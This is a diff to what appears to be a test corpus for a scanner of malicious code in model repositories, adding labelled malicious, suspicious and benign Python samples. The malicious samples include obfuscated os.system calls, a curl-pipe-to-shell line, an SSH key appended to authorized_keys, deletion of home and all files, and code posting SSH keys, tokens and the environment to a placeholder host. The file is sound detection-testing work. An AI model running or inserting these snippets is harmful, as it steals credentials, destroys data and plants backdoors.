@@ -38,6 +38,44 @@ ATTACKS = {
     "reduce": ("a class whose pickle runs a command", f"import os\n\nclass Payload:\n    def __reduce__(self):\n        return (os.system, ('{COMMAND}',))\n"),
     "rot13": ("a source in rot13", "# -*- coding: rot13 -*-\nvzcbeg bf\n"),
     "subclasses": ("a walk from an empty tuple to all classes", "for c in ().__class__.__base__.__subclasses__():\n    print(c)\n"),
+    "annotation": ("a command in an annotation", f"import os\n\ndef f(x: os.system('{COMMAND}')) -> None: pass\n"),
+    "not-main": ("a command that runs unless the file is the program", f"import os\n\nif __name__ != '__main__':\n    os.system('{COMMAND}')\n"),
+    "attrgetter": ("os.system through operator.attrgetter", f"import os\nfrom operator import attrgetter\n\nattrgetter('system')(os)('{COMMAND}')\n"),
+    "methodcaller": ("os.system through operator.methodcaller", f"import operator, os\n\noperator.methodcaller('system', '{COMMAND}')(os)\n"),
+    "codeop": ("text compiled by codeop and run", f"import codeop\n\nexec(codeop.compile_command(\"import os; os.system('{COMMAND}')\"))\n"),
+    "console": ("text pushed into a console", f"import code\n\ncode.InteractiveConsole().push(\"import os; os.system('{COMMAND}')\")\n"),
+    "namespace-get": ("os.system through get of a namespace", f"import os\n\nvars(os).get('system')('{COMMAND}')\n"),
+    "globals-set": ("a name set through globals()", f"import os\n\nglobals()['run'] = os.system\nrun('{COMMAND}')\n"),
+    "class-attribute": ("os.system as an attribute that a method calls", f"import os\n\nclass Model:\n    def __init__(self):\n        self.run = os.system\n        self.go()\n\n    def go(self):\n        self.run('{COMMAND}')\n"),
+    "parameter": ("a module handed to a lambda", f"(lambda m: m.system('{COMMAND}'))(__import__('os'))\n"),
+    "init-subclass": ("a command run by deriving a class", f"import os\n\nclass Base:\n    def __init_subclass__(cls):\n        os.system('{COMMAND}')\n\nclass Model(Base): pass\n"),
+    "metaclass": ("a command run by a metaclass", f"import os\n\nclass Meta(type):\n    def __new__(mcs, name, bases, members):\n        os.system('{COMMAND}')\n        return type.__new__(mcs, name, bases, members)\n\nclass Model(metaclass=Meta): pass\n"),
+    "unknown-attribute": ("a function of os chosen by a loop", f"import os\n\nfor name in dir(os):\n    if name.startswith('sys') and name.endswith('tem'):\n        getattr(os, name)('{COMMAND}')\n"),
+    "frame": ("exec through a frame", f"import sys\n\nsys._getframe(0).f_builtins['exec'](\"import os; os.system('{COMMAND}')\")\n"),
+    "loop-shell": ("a command started by an event loop", f"import asyncio\n\nloop = asyncio.new_event_loop()\nloop.run_until_complete(loop.subprocess_shell(asyncio.SubprocessProtocol, '{COMMAND}'))\n"),
+    "psutil": ("a program started by psutil", "import psutil\n\npsutil.Popen(['echo', 'weighin'])\n"),
+    "loader-command": ("a command of the configuration, run by a constructor", "import subprocess\n\nclass Model:\n    def __init__(self, config):\n        subprocess.run(config.command, shell=True)\n"),
+    "exec-weights": ("text of the weights run as code", "import os\n\nexec(open(os.path.join(os.path.dirname(__file__), 'weights.bin')).read())\n"),
+    "import-weights": ("a module imported from the weights", "import importlib.util\n\nspec = importlib.util.spec_from_file_location('x', 'weights.bin')\nmodule = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)\n"),
+    "written-module": ("a module written and then imported", f"import sys\n\nopen('/tmp/weighin_m.py', 'w').write(\"import os; os.system('{COMMAND}')\")\nsys.path.insert(0, '/tmp')\nimport weighin_m\n"),
+    "authorized-keys": ("a key added to those that may log in", "from pathlib import Path\n\nkeys = Path.home().joinpath('.ssh', 'authorized_keys')\nkeys.write_text(keys.read_text() + 'ssh-ed25519 AAAA weighin')\n"),
+    "path-file": ("a .pth file among the packages", "import os\nimport site\n\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import os')\n"),
+    "pip-index": ("a package from another index", f"import subprocess\nimport sys\n\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://{HOST}/', 'weighin'])\n"),
+    "rmtree-home": ("everything of a person removed", "import os\nimport shutil\n\nshutil.rmtree(os.path.expanduser('~'))\n"),
+    "remove-all": ("every file of the machine removed", "import os\n\nfor root, folders, files in os.walk('/'):\n    for file in files:\n        os.remove(os.path.join(root, file))\n"),
+    "mmap-exec": ("memory made to run", "import ctypes\nimport mmap\n\nmemory = mmap.mmap(-1, 4096, prot=7)\nmemory.write(b'\\xc3')\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()\n"),
+    "keys-glob": ("every private key sent away", f"import glob\nimport os\n\nimport requests\n\nclass Model:\n    def __init__(self):\n        for path in glob.glob(os.path.expanduser('~/.ssh/*')):\n            requests.post('http://{HOST}/', files={{'f': open(path, 'rb')}})\n"),
+    "environment-comprehension": ("the environment copied and sent away", f"import os\n\nimport requests\n\nclass Model:\n    def __init__(self):\n        requests.post('http://{HOST}/', json={{k: v for k, v in os.environ.items()}})\n"),
+    "chained-command": ("a harmless command followed by another", f"import os\n\nos.system('uname -a; curl http://{HOST}/x | sh')\n"),
+    "git-setting": ("git told to run a command", f"import subprocess\n\nsubprocess.run(['git', '-c', 'core.sshCommand={COMMAND}', 'fetch', 'ssh://{HOST}/x'])\n"),
+}
+
+UNEASY = {
+    "pip-main": ("a package installed on import", "import pip\n\npip.main(['install', 'weighin'])\n"),
+    "token-sent": ("a token sent in an address", f"import os\n\nimport requests\n\nclass Model:\n    def __init__(self):\n        requests.get('http://{HOST}/?t=' + os.environ['HF_TOKEN'])\n"),
+    "exec-config": ("text of the configuration run as code", "class Model:\n    def __init__(self, config):\n        exec(config.code)\n"),
+    "sends-inputs": ("inputs sent away", f"import requests\n\nclass Model:\n    def forward(self, input_ids):\n        requests.post('https://{HOST}/', json={{'x': input_ids.tolist()}})\n        return input_ids\n"),
+    "opens-port": ("a server started on import", "import http.server\n\nhttp.server.HTTPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()\n"),
 }
 
 HONEST = {
@@ -48,6 +86,12 @@ HONEST = {
     "plugins": ("a module that imports by name and reads one variable", "import importlib\nimport os\n\nTOKEN = os.environ.get('HF_TOKEN')\n\ndef load(name):\n    return getattr(importlib.import_module('plugins.' + name), 'Plugin')\n"),
     "static": ("a class that hands a function to staticmethod", "import os\n\ndef clear():\n    os.system('clear')\n\nclass Screen:\n    clear = staticmethod(clear)\n"),
     "template_exec": ("a module that runs a constant of its own", "exec('def f(x): return x')\n"),
+    "run_version": ("a script that runs its version file", "exec(open('weighin/version.py').read())\n"),
+    "callbacks": ("functions handed around and kept as attributes", "import os\nimport subprocess\n\nclass Runner:\n    clear = staticmethod(os.path.exists)\n\n    def __init__(self, check=os.path.exists):\n        self.check = check\n        self.sort = sorted\n\n    def run(self, paths):\n        return list(filter(self.check, self.sort(paths)))\n\ndef gpus():\n    return subprocess.run('nvidia-smi -L | wc -l', shell=True, capture_output=True)\n\nRunner().run(['a'])\n"),
+    "service": ("a client that sends its key in a header", "import os\n\nimport requests\n\nclass Client:\n    def __call__(self, text):\n        key = os.environ['API_KEY']\n        return requests.post(f'https://example.com/{text}', headers={'Authorization': f'Bearer {key}'})\n"),
+    "installer": ("a script that installs a library that is missing", "import subprocess\nimport sys\n\ndef install(name):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', name])\n\nif __name__ == '__main__':\n    install('einops')\n"),
+    "cleanup": ("a script that removes its own folder", "import os\nimport shutil\n\nshutil.rmtree('build', ignore_errors=True)\nfor root, _, files in os.walk('checkpoints'):\n    for file in files:\n        os.remove(os.path.join(root, file))\n"),
+    "lazy": ("a lazy module that looks names up", "import importlib\nimport sys\nimport types\n\nclass Lazy(types.ModuleType):\n    def __getattr__(self, name):\n        return getattr(importlib.import_module('.' + name, __name__), name)\n\nsys.modules[__name__] = Lazy(__name__)\n"),
 }
 
 CONFIGURATIONS = {
@@ -131,6 +175,12 @@ def add_samples(corpus):
     """All of them."""
     for name, (what, source) in ATTACKS.items():
         corpus.add(f"python/{name}/modeling_x.py", MALICIOUS, source, f"a modeling file: {what}", "code beside the model runs when it is trusted")
+    for name, (what, source) in UNEASY.items():
+        corpus.add(f"python/{name}/modeling_x.py", SUSPICIOUS, source, f"a modeling file: {what}", "nobody asked for it")
+    corpus.add("python/foreign-code/modeling_x.py", CLEAN, "from transformers import AutoModel\n\nclass Model:\n    def __init__(self):\n        self.base = AutoModel.from_pretrained('other/model', trust_remote_code=True)\n", "a modeling file built on another repository's code", "a note is enough: models are built on models")
+    corpus.add("python/eval-config/modeling_x.py", CLEAN, "class Model:\n    def __init__(self, config):\n        self.activation = eval(config.activation)\n", "a modeling file that evaluates a name of the configuration", "a note is enough: it is common")
+    corpus.add("python/builds-native/modeling_x.py", CLEAN, "from torch.utils.cpp_extension import load\n\nkernel = load('kernel', sources=['kernel.cu'])\n", "a modeling file with a kernel of its own", "a note is enough: models have kernels")
+    corpus.add("python/meta-path/modeling_x.py", SUSPICIOUS, "import sys\n\nclass Finder:\n    def find_spec(self, name, path, target=None):\n        exec(name)\n\nsys.meta_path.insert(0, Finder())\n", "a modeling file: a finder that runs text", "every later import calls it")
     corpus.add("python/hubconf/hubconf.py", MALICIOUS, f"import os\n\ndef model():\n    os.system('{COMMAND}')\n", "an entry point of torch.hub that runs a command", "torch.hub calls it")
     corpus.add("python/setup/setup.py", MALICIOUS, f"import os\nos.system('{COMMAND}')\n", "a setup script that runs a command", "installing runs it")
     corpus.add("python/network/modeling_x.py", SUSPICIOUS, f"import requests\nrequests.post('https://{HOST}/')\n", "a modeling file that uses the network on import", "someone is told who loads the model")
